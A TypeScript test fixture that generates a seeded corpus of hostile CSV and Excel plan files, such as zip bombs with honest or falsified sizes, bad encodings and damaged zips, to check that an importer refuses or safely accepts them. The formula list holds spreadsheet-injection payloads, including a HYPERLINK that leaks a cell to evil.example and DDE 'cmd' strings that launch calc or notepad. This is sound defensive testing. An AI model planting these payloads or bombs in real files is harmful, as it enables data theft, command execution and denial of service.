import { parse } from 'csv-parse/sync';
import { seededRandom } from '../../bench/random';
import { IMPORT_LIMITS } from '../../src/import/import-limits';
import { exampleCsv, exampleWorkbook, lyingAboutSize, windows1252, withSheetXml } from './hostile-files';

/**
 * What importing a hostile file must do:
 * - `clean`: it is the example plan once read (a BOM, Windows-1252, a look-alike letter, a formula
 *   kept as text), so it is accepted and appends exactly what the clean example appends;
 * - `refused`: refused with an InvalidInput naming the problem, nothing appended;
 * - `either`: random damage that may leave a readable plan (a changed letter in a title) or not;
 *   accepted or refused with nothing appended, never any other error.
 */
export type Expectation = 'clean' | 'refused' | 'either';

export interface HostilePlanFile {
  kind: string;
  name: string;
  expect: Expectation;
  content: Buffer;
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
/** Columns of the example: 0 Priority … 5 Action, 7 Lead, 9-11 the three RAG columns, 12 Note. */
const TEXT_COLUMNS = [1, 2, 5, 6, 7, 12];
const RAG_COLUMNS = [9, 10, 11];

const records = (): string[][] => parse(exampleCsv()) as string[][];
const toCsv = (rows: string[][]): string => rows.map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(',')).join('\r\n') + '\r\n';
const columnName = (n: number): string => (n <= 26 ? String.fromCharCode(64 + n) : columnName(Math.floor((n - 1) / 26)) + String.fromCharCode(65 + ((n - 1) % 26)));

/**
 * At least 200 hostile plan files, made from the Sunderland example the way Excel, a careless
 * export or an attacker would make them. Every choice (which cell, which size, which bytes) is
 * drawn from `seed` (the suite passes FAST_CHECK_SEED, as the property tests use). The workbooks
 * exceljs writes carry the time they were made, so the random mutations of a good .xlsx land on
 * slightly different bytes from one run to the next: that kind may accept one file more or fewer.
 */
export async function hostilePlanCorpus(seed: number): Promise<HostilePlanFile[]> {
  const random = seededRandom(seed);
  const int = (below: number) => Math.floor(random() * below);
  const files: HostilePlanFile[] = [];
  const add = (kind: string, extension: 'csv' | 'xlsx', expect: Expectation, content: Buffer) =>
    files.push({ kind, name: `${kind}-${String(files.filter((f) => f.kind === kind).length + 1).padStart(2, '0')}.${extension}`, expect, content });
  const rows = records();
  const cleanCsv = exampleCsv();
  const cleanXlsx = await exampleWorkbook();
  /** The example with one data cell changed (rows 1-67, columns 0-12). */
  const editedCsv = (edit: (rows: string[][]) => void): Buffer => {
    const copy = records();
    edit(copy);
    return Buffer.from(toCsv(copy));
  };
  const anyRow = () => 1 + int(rows.length - 1);

  // Excel's two CSV encodings, and UTF-16 ("Unicode Text"), with accented letters in random cells.
  const accents = ['Café', 'naïve', 'Zoë’s', '“quoted”', 'en – dash', '£5,000', 'rôle', 'façade'];
  for (let i = 0; i < 10; i++) {
    const text = editedCsv((r) => (r[anyRow()][TEXT_COLUMNS[int(TEXT_COLUMNS.length)]] += ` ${accents[int(accents.length)]}`)).toString();
    add('utf8-bom', 'csv', 'clean', Buffer.concat([BOM, Buffer.from(text)]));
    add('windows-1252', 'csv', 'clean', windows1252(text));
    if (i < 5) add('utf16-le', 'csv', 'refused', Buffer.concat([i % 2 ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, 'utf16le')]));
    if (i < 5) add('utf16-be', 'csv', 'refused', Buffer.concat([i % 2 ? Buffer.from([0xfe, 0xff]) : Buffer.alloc(0), Buffer.from(text, 'utf16le').swap16()]));
  }

  // A heading twice (as typed, another case, trailing space), in CSV and in the workbook.
  for (let i = 0; i < 10; i++) {
    const repeated = rows[0][int(rows[0].length)];
    const spelt = [repeated, repeated.toUpperCase(), `${repeated} `, ` ${repeated.toLowerCase()}`][i % 4];
    add('repeated-heading', 'csv', 'refused', editedCsv((r) => r.forEach((row, n) => row.push(n === 0 ? spelt : `extra ${n}`))));
    if (i < 5) {
      add('repeated-heading', 'xlsx', 'refused', await exampleWorkbook((sheet) => {
        sheet.getCell(`N1`).value = spelt;
        sheet.getCell(`N${2 + int(60)}`).value = 'Someone else';
      }));
    }
  }

  // A column of data with no heading: a heading blanked, or data past the last heading.
  for (let i = 0; i < 10; i++) {
    const column = int(rows[0].length);
    add('empty-heading', 'csv', 'refused', editedCsv((r) => (r[0][column] = i % 2 ? '' : '   ')));
    if (i < 5) add('cells-past-headings', 'csv', 'refused', editedCsv((r) => r[anyRow()].push(...Array.from({ length: 1 + int(3) }, () => 'stray'))));
  }

  // Giant cells: past the 8 MB limit (refused) and big but within it (read, or refused by a field's own limit).
  for (let i = 0; i < 4; i++) {
    const over = IMPORT_LIMITS.bytes + 1 + int(1024 * 1024);
    add('giant-cell', 'csv', 'refused', editedCsv((r) => (r[anyRow()][TEXT_COLUMNS[int(TEXT_COLUMNS.length)]] = 'x'.repeat(over))));
    const within = 100_000 + int(2 * 1024 * 1024);
    add('big-cell', 'csv', 'either', editedCsv((r) => (r[anyRow()][TEXT_COLUMNS[int(TEXT_COLUMNS.length)]] = 'y'.repeat(within))));
  }
  for (let i = 0; i < 3; i++) {
    const at = `${columnName(1 + TEXT_COLUMNS[int(TEXT_COLUMNS.length)])}${2 + int(60)}`;
    add('giant-cell', 'xlsx', 'refused', await exampleWorkbook((sheet) => void (sheet.getCell(at).value = 'x'.repeat(IMPORT_LIMITS.bytes + 1 + int(1024 * 1024)))));
    add('big-cell', 'xlsx', 'either', await exampleWorkbook((sheet) => void (sheet.getCell(at).value = 'y'.repeat(100_000 + int(2 * 1024 * 1024)))));
  }

  // Cells at far addresses: the last cell of a sheet, and random ones beyond 5,000 rows or 256 columns.
  add('far-cell', 'xlsx', 'refused', await exampleWorkbook((sheet) => void (sheet.getCell('XFD1048576').value = 'x')));
  for (let i = 0; i < 9; i++) {
    const address = i % 2 ? `${columnName(257 + int(16384 - 257))}${1 + int(1_048_576)}` : `${columnName(1 + int(256))}${5001 + int(1_048_576 - 5001)}`;
    add('far-cell', 'xlsx', 'refused', await exampleWorkbook((sheet) => void (sheet.getCell(address).value = 'far')));
  }
  for (let i = 0; i < 4; i++) {
    const extent = `A1:${columnName(257 + int(16000))}${5001 + int(1_000_000)}`;
    add('far-dimension', 'xlsx', 'refused', await withSheetXml((xml) => xml.replace(/<dimension ref="[^"]+"/, `<dimension ref="${extent}"`)));
  }

  // Zip bombs: a sheet that unzips past 8 MB, with honest sizes and with sizes that lie.
  for (let i = 0; i < 10; i++) {
    const padding = `<!--${'0'.repeat(IMPORT_LIMITS.bytes + 1024 + int(24 * 1024 * 1024))}-->`;
    const bomb = await withSheetXml((xml) => xml.replace('<sheetData>', `${padding}<sheetData>`));
    if (i < 4) add('zip-bomb', 'xlsx', 'refused', bomb);
    else add('zip-bomb-lying', 'xlsx', 'refused', lyingAboutSize(bomb, 'xl/worksheets/sheet1.xml', 1024 + int(1024 * 1024)));
  }

  // Too much: rows, columns, cells.
  for (let i = 0; i < 4; i++) {
    const extraRows = IMPORT_LIMITS.rows + int(2000) - rows.length + 1;
    add('too-many-rows', 'csv', 'refused', editedCsv((r) => r.push(...Array.from({ length: extraRows }, (_, n) => r[1 + (n % 60)].slice()))));
    const width = IMPORT_LIMITS.columns + 1 + int(500);
    add('too-many-columns', 'csv', 'refused', editedCsv((r) => r.forEach((row, n) => row.push(...Array.from({ length: width - row.length }, (_, c) => (n === 0 ? `Extra ${c}` : ''))))));
  }
  for (let i = 0; i < 3; i++) {
    const count = IMPORT_LIMITS.cells + 1 + int(20_000);
    const cells = Array.from({ length: count }, (_, n) => `<c r="${columnName(1 + (n % 200))}${100 + Math.floor(n / 200)}"/>`);
    const byRow = new Map<string, string[]>();
    for (const cell of cells) {
      const row = /\d+/.exec(cell)![0];
      byRow.set(row, [...(byRow.get(row) ?? []), cell]);
    }
    const xml = [...byRow].map(([row, cs]) => `<row r="${row}">${cs.join('')}</row>`).join('');
    add('too-many-cells', 'xlsx', 'refused', await withSheetXml((sheet) => sheet.replace('</sheetData>', `${xml}</sheetData>`)));
  }

  // Formula cells: as text in a CSV (kept as typed; exports neutralise them), and real formulas in a workbook.
  const formulas = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '\t=2+2', '=cmd|\' /C notepad\'!A1', '+44 191 520 5555'];
  for (let i = 0; i < 12; i++) {
    const formula = formulas[i % formulas.length];
    add('formula-text', 'csv', 'clean', editedCsv((r) => (r[anyRow()][[5, 6, 12][int(3)]] = formula)));
  }
  for (let i = 0; i < 6; i++) {
    const at = `${columnName(1 + [5, 6, 12][int(3)])}${2 + int(60)}`;
    const formula = ['HYPERLINK("http://evil.example","click")', 'SUM(1,1)', 'CONCATENATE("=cmd","|calc")'][i % 3];
    add('formula-cell', 'xlsx', 'either', await exampleWorkbook((sheet) => void (sheet.getCell(at).value = { formula, result: 'click', date1904: false })));
  }

  // Damaged zips: cut short, and random bytes changed in a good workbook.
  for (let i = 0; i < 10; i++) add('truncated-zip', 'xlsx', 'refused', cleanXlsx.subarray(0, int(cleanXlsx.length - 1)));
  for (let i = 0; i < 15; i++) add('mutated', 'xlsx', 'either', mutate(cleanXlsx, 1 + int(20), random));
  for (let i = 0; i < 15; i++) add('mutated', 'csv', 'either', mutate(Buffer.from(cleanCsv), 1 + int(20), random));

  // Not a plan at all: random bytes, a PDF, a PNG, an executable, named .csv or .xlsx.
  const magic = [Buffer.from('%PDF-1.7\n'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('MZ'), Buffer.from([0x50, 0x4b, 0x03, 0x04])];
  for (let i = 0; i < 10; i++) {
    const junk = Buffer.concat([magic[i % magic.length], Buffer.from(Array.from({ length: 100 + int(100_000) }, () => int(256)))]);
    add('binary-junk', i % 2 ? 'xlsx' : 'csv', 'refused', junk);
  }

  // NUL and other control bytes inside the text.
  for (let i = 0; i < 8; i++) {
    const text = Buffer.from(cleanCsv);
    const at = 200 + int(text.length - 400);
    add('nul-bytes', 'csv', 'refused', Buffer.concat([text.subarray(0, at), Buffer.from([[0, 0, 1, 0x1b][i % 4]]), text.subarray(at)]));
  }

  // One enormous line: no line breaks at all, or a heading row of thousands of commas.
  for (let i = 0; i < 4; i++) {
    add('enormous-line', 'csv', 'refused', Buffer.from(cleanCsv.replace(/\r\n/g, i % 2 ? ' ' : '')));
    add('enormous-line', 'csv', 'refused', Buffer.from(`${','.repeat(10_000 + int(1_000_000))}\r\n${cleanCsv}`));
  }

  // Codes as people type and paste them: look-alikes from other scripts are taken, anything else refused.
  const lookAlikes: Record<string, string[]> = { A: ['А', 'Ａ', 'a', ' a '], R: ['Ｒ', 'r'], DG: ['dg', 'ＤＧ', 'Dg '], LG: ['lg', 'ＬＧ'] };
  for (let i = 0; i < 12; i++) {
    add('look-alike-code', i % 3 ? 'csv' : 'xlsx', 'clean', Buffer.alloc(0));
    const file = files[files.length - 1];
    const copy = records();
    const candidates = copy.flatMap((row, r) => (r === 0 ? [] : RAG_COLUMNS.filter((c) => lookAlikes[row[c]]).map((c) => [r, c] as const)));
    const [r, c] = candidates[int(candidates.length)];
    copy[r][c] = lookAlikes[copy[r][c]][int(lookAlikes[copy[r][c]].length)];
    file.content = file.name.endsWith('.csv') ? Buffer.from(toCsv(copy)) : await exampleWorkbook((sheet) => void (sheet.getCell(`${columnName(c + 1)}${r + 1}`).value = copy[r][c]));
  }
  const foreign = ['Ж', 'Б', 'Ω', '🙂', 'Ａ\u0301', 'ДG'];
  for (let i = 0; i < 6; i++) {
    add('foreign-code', 'csv', 'refused', editedCsv((r) => (r[anyRow()][RAG_COLUMNS[int(3)]] = foreign[i])));
  }

  // Quotes left open: a cell that starts a quoted field and never ends it, so the rest of the file runs into it.
  for (let i = 0; i < 8; i++) {
    const copy = records();
    const row = anyRow();
    const lines = toCsv(copy).split('\r\n');
    lines[row] = toCsv([copy[row].slice(0, 12 - int(3))]).replace(/\r\n$/, '') + `,"unfinished ${i}`;
    add('open-quote', 'csv', 'refused', Buffer.from(lines.join('\r\n')));
  }
  return files;
}

/** `count` bytes of `file` set to random values at random places. */
function mutate(file: Buffer, count: number, random: () => number): Buffer {
  const copy = Buffer.from(file);
  for (let i = 0; i < count; i++) copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
  return copy;
}

/** The files a clean import is measured against: the example itself, as CSV and as a workbook. */
export async function cleanPlanFiles(): Promise<HostilePlanFile[]> {
  return [
    { kind: 'clean', name: 'clean.csv', expect: 'clean', content: Buffer.from(exampleCsv()) },
    { kind: 'clean', name: 'clean.xlsx', expect: 'clean', content: await exampleWorkbook() },
  ];
}

